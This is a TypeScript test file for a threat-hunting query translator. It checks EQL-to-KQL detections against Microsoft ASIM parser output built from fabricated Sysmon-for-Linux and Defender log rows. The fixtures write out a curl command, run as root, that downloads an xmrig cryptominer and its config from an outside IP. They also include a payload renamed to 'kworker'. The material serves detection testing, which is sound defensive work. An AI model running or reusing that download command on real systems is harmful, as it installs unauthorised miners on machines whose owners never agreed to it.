/**
 * The asim target reads what Microsoft's ASIM parsers actually output on Linux, not what the ASIM schema lists.
 * The rows are raw source rows, and Microsoft's own parsers (../shared/reference/asim-parsers, run by the local
 * engine through test/paired/asim.ts as imProcessEvent.yaml / imFileEvent.yaml union them) make the ASIM rows.
 *
 * - Sysmon for Linux rows: the SyslogMessage texts are Sysmon-for-Linux records as a host logs them (events 1 and
 *   11 of one host, record ids 76954, 76956, 76958: curl downloading /opt/automation/xmrig and config.json), in the
 *   shape the parsers' `parse` patterns read: vimProcessCreateLinuxSysmon.yaml lines 102-136 and 145 (event 1),
 *   vimFileEventLinuxSysmonFileCreated.yaml lines 19-31 (event 11).
 * - Defender for Endpoint rows (DeviceFileEvents): shaped by vimFileEventM365D.yaml (local_events, lines 101-123:
 *   RequestAccountName empty; line 145: DvcOs is Linux when FolderPath starts with "/"), FolderPath holding the
 *   file's full path as in the paired corpus's DeviceFileEvents record (m365_defender test-device.log:
 *   FolderPath "C:\\Windows\\System32\\VMAgentDisabler.dll", FileName "VMAgentDisabler.dll").
 *
 * What the parsers leave empty (each assertion names the parser line):
 * - vimFileEventLinuxSysmonFileCreated.yaml sets TargetFilePath only (line 52, `TargetFilePath =msgTargetFileName`):
 *   no TargetFileName, TargetFileDirectory or TargetFileExtension; its ActingProcessGuid keeps the braces (line 26
 *   parses `'<Data Name="ProcessGuid">'msgProcessGuid`), where vimProcessCreateLinuxSysmon.yaml line 111 strips
 *   them (`'<Data Name="ProcessGuid">{'ProcessGuid '}</Data>…`).
 * - vimFileEventM365D.yaml sets TargetFileName (line 142) and SrcFileName (line 143) but no TargetFileExtension,
 *   TargetFileDirectory or SrcFileExtension.
 * - vimProcessCreateLinuxSysmon.yaml names the host column DvcHostName (line 173, `DvcHostName = SysmonComputer`),
 *   not the schema's DvcHostname, which it leaves empty (Dvc holds the name, line 191).
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseEql } from "../../src/eql/index.js";
import { translateQuery } from "../../src/kql/index.js";
import { openWorkspace, toRecords, type Workspace } from "../../src/workspace/index.js";
import { asimFunctions } from "../paired/asim.js";

const work = mkdtempSync(path.join(tmpdir(), "shmhunt-asim-output-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const HOST = "ip-172-31-60-25";
const GUID = "{c9eb4a87-4093-637f-789d-2406ab550000}";

function sysmonSystem(eventId: number, version: number, record: number, time: string): string {
  return [
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>',
    `<EventID>${eventId}</EventID><Version>${version}</Version><Level>4</Level><Task>${eventId}</Task><Opcode>0</Opcode>`,
    `<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="${time}"/><EventRecordID>${record}</EventRecordID>`,
    '<Correlation/><Execution ProcessID="1109" ThreadID="1109"/><Channel>Linux-Sysmon/Operational</Channel>',
    `<Computer>${HOST}</Computer><Security UserId="0"/></System>`,
  ].join("");
}

const data = (name: string, value: string) => `<Data Name="${name}">${value}</Data>`;

function syslogRow(message: string, time: string, paired: number): Record<string, unknown> {
  return {
    TimeGenerated: time,
    Computer: HOST,
    HostName: HOST,
    HostIP: "172.31.60.25",
    Facility: "user",
    ProcessName: "sysmon",
    SyslogMessage: message,
    Paired: paired,
  };
}

/** Sysmon for Linux event 1 (record 76954): curl started by bash, as root. */
const curlStarted = syslogRow(
  [
    sysmonSystem(1, 5, 76954, "2022-11-24T09:59:47.882033000Z"),
    "<EventData>",
    data("RuleName", "-"),
    data("UtcTime", "2022-11-24 09:59:47.884"),
    data("ProcessGuid", GUID),
    data("ProcessId", "4005"),
    data("Image", "/usr/bin/curl"),
    data("FileVersion", "-"),
    data("Description", "-"),
    data("Product", "-"),
    data("Company", "-"),
    data("OriginalFileName", "-"),
    data("CommandLine", "curl -s -O http://44.204.18.94:80/xmrig -O http://44.204.18.94:80/config.json"),
    data("CurrentDirectory", "/opt/automation"),
    data("User", "root"),
    data("LogonGuid", "{c9eb4a87-0000-0000-0000-000001000000}"),
    data("LogonId", "0"),
    data("TerminalSessionId", "66"),
    data("IntegrityLevel", "no level"),
    data("Hashes", "-"),
    data("ParentProcessGuid", "{c9eb4a87-4093-637f-4884-6c9bed550000}"),
    data("ParentProcessId", "4004"),
    data("ParentImage", "/bin/bash"),
    data("ParentCommandLine", "/bin/bash"),
    data("ParentUser", "root"),
    "</EventData></Event>",
  ].join(""),
  "2022-11-24T09:59:47.882Z",
  1,
);

/** Sysmon for Linux event 11: the file curl created. */
function sysmonFileCreated(record: number, file: string, time: string, paired: number) {
  return syslogRow(
    [
      sysmonSystem(11, 2, record, time),
      "<EventData>",
      data("RuleName", "-"),
      data("UtcTime", time.replace("T", " ").slice(0, 23)),
      data("ProcessGuid", GUID),
      data("ProcessId", "4005"),
      data("Image", "/usr/bin/curl"),
      data("TargetFilename", file),
      data("CreationUtcTime", time.replace("T", " ").slice(0, 23)),
      data("User", "root"),
      "</EventData></Event>",
    ].join(""),
    time,
    paired,
  );
}

const xmrigCreated = sysmonFileCreated(76956, "/opt/automation/xmrig", "2022-11-24T09:59:47.929Z", 2);
const configCreated = sysmonFileCreated(76958, "/opt/automation/config.json", "2022-11-24T09:59:48.013Z", 3);

/** A Defender for Endpoint file event on a Linux device (local: no RequestAccountName). */
function defenderFile(paired: number, action: string, folderPath: string, previous?: string) {
  return {
    TimeGenerated: "2022-11-24T10:00:00.000Z",
    Timestamp: "2022-11-24T10:00:00.000Z",
    DeviceId: "d1",
    DeviceName: `${HOST}.ec2.internal`,
    ActionType: action,
    FileName: folderPath.split("/").pop(),
    FolderPath: folderPath,
    ...(previous ? { PreviousFileName: previous.split("/").pop(), PreviousFolderPath: previous } : {}),
    InitiatingProcessFolderPath: "/usr/bin/curl",
    InitiatingProcessFileName: "curl",
    InitiatingProcessCommandLine: "curl -s -O http://44.204.18.94:80/config.json",
    InitiatingProcessAccountDomain: HOST,
    InitiatingProcessAccountName: "root",
    InitiatingProcessId: 4005,
    ReportId: paired,
    Paired: paired,
  };
}

let ws: Workspace;
beforeAll(async () => {
  const dir = mkdtempSync(path.join(work, "ws-"));
  const lines = (rows: readonly object[]) => `${rows.map((r) => JSON.stringify(r)).join("\n")}\n`;
  writeFileSync(path.join(dir, "Syslog.ndjson"), lines([curlStarted, xmrigCreated, configCreated]));
  writeFileSync(
    path.join(dir, "DeviceFileEvents.ndjson"),
    lines([
      defenderFile(11, "FileCreated", "/opt/automation/config.json"),
      defenderFile(12, "FileRenamed", "/opt/automation/kworker", "/opt/automation/payload.tmp"),
    ]),
  );
  ws = await openWorkspace(dir, { functions: asimFunctions().functions });
});

async function hits(eql: string): Promise<number[]> {
  const t = translateQuery(parseEql(eql), "asim");
  expect(t.refused, t.refused?.message).toBeUndefined();
  const rows = toRecords(await ws.query(t.kql ?? ""));
  return rows.map((r) => Number(r.Paired ?? (r.ShmhuntEvent2 as { Paired?: number } | undefined)?.Paired)).sort();
}

describe("what Microsoft's parsers output (the premises of the cases below)", () => {
  it("Sysmon's file parser fills TargetFilePath only; its GUID keeps the braces the process parser strips", async () => {
    const file = toRecords(
      await ws.query(
        "_Im_FileEvent | where Paired == 2 | project TargetFilePath, TargetFileName, TargetFileExtension, TargetFileDirectory, ActingProcessGuid",
      ),
    );
    expect(file).toEqual([
      {
        TargetFilePath: "/opt/automation/xmrig",
        TargetFileName: "",
        TargetFileExtension: "",
        TargetFileDirectory: "",
        ActingProcessGuid: GUID,
      },
    ]);
    const proc = toRecords(
      await ws.query("_Im_ProcessEvent | where Paired == 1 | project TargetProcessGuid, DvcHostname, Dvc"),
    );
    expect(proc).toEqual([{ TargetProcessGuid: GUID.slice(1, -1), DvcHostname: "", Dvc: HOST }]);
  });

  it("Defender's file parser fills TargetFileName and SrcFileName, not the extensions", async () => {
    const rows = toRecords(
      await ws.query(
        "_Im_FileEvent | where Paired > 10 | order by Paired asc | project TargetFileName, TargetFileExtension, SrcFileName, SrcFileExtension",
      ),
    );
    expect(rows).toEqual([
      { TargetFileName: "config.json", TargetFileExtension: "", SrcFileName: "", SrcFileExtension: "" },
      { TargetFileName: "kworker", TargetFileExtension: "", SrcFileName: "payload.tmp", SrcFileExtension: "" },
    ]);
  });

  it("Defender's file parser appends the file name to FolderPath, which already ends with it", async () => {
    // vimFileEventM365D.yaml line 164: `TargetFilePath = strcat(FolderPath, iff(DvcOs == "Linux", "/", "\\"),
    // TargetFileName)` (line 166 the same for SrcFilePath), after Microsoft's column reference
    // (../shared/schemas/DeviceFileEvents.docs.json: FolderPath "Folder containing the file that the recorded action
    // was applied to"). A real record's FolderPath is the file's full path (the paired corpus, m365_defender
    // test-device.log, DeviceFileEvents: FolderPath "C:\\Windows\\System32\\VMAgentDisabler.dll").
    const rows = toRecords(
      await ws.query("_Im_FileEvent | where Paired > 10 | order by Paired asc | project TargetFilePath, SrcFilePath"),
    );
    expect(rows).toEqual([
      // No rename: line 166 joins an empty folder and name with the separator.
      { TargetFilePath: "/opt/automation/config.json/config.json", SrcFilePath: "/" },
      {
        TargetFilePath: "/opt/automation/kworker/kworker",
        SrcFilePath: "/opt/automation/payload.tmp/payload.tmp",
      },
    ]);
  });
});

describe("ECS file and host fields over the parsers' Linux rows", () => {
  it.each([
    // ECS file.name: the file's name with its extension; file.extension without the dot.
    ['file where file.name == "xmrig"', [2]],
    ['file where file.name == "config.json"', [3, 11]],
    ['file where file.extension == "json"', [3, 11]],
    // Elastic's m365_defender pipeline reads a DeviceFileEvents record's file.path as its FolderPath and its
    // file.directory as that path's folder (the paired corpus, test-device.log-expected.json: "path":
    // "C:\\Windows\\System32\\VMAgentDisabler.dll", "directory": "C:\\Windows\\System32"), so the Defender rows
    // (11, 12) match as the Sysmon rows do, through the doubled name the parser makes (premise above).
    ['file where file.directory == "/opt/automation"', [2, 3, 11, 12]],
    ['file where file.path == "/opt/automation/config.json"', [3, 11]],
    ['file where file.path : "/opt/automation/*"', [2, 3, 11, 12]],
    ['file where file.Ext.original.path == "/opt/automation/payload.tmp"', [12]],
    ['file where file.Ext.original.extension == "tmp"', [12]],
    ['file where file.Ext.original.name == "payload.tmp"', [12]],
    [`process where host.name == "${HOST}"`, [1]],
  ] as const)("%s", async (eql, expected) => {
    expect(await hits(eql)).toEqual([...expected].sort());
  });

  it("a sequence by process.entity_id joins Sysmon's process start to the file it created", async () => {
    // ECS process.entity_id is one value for the process in both events (Elastic's sysmon_linux pipeline keeps the
    // ProcessGuid as written: test-sysmon.json-expected.json "entity_id": "{d65774de-8d1e-6175-…}").
    expect(
      await hits(
        'sequence by process.entity_id [process where process.name == "curl"] [file where file.name == "xmrig"]',
      ),
    ).toEqual([2]);
  });
});
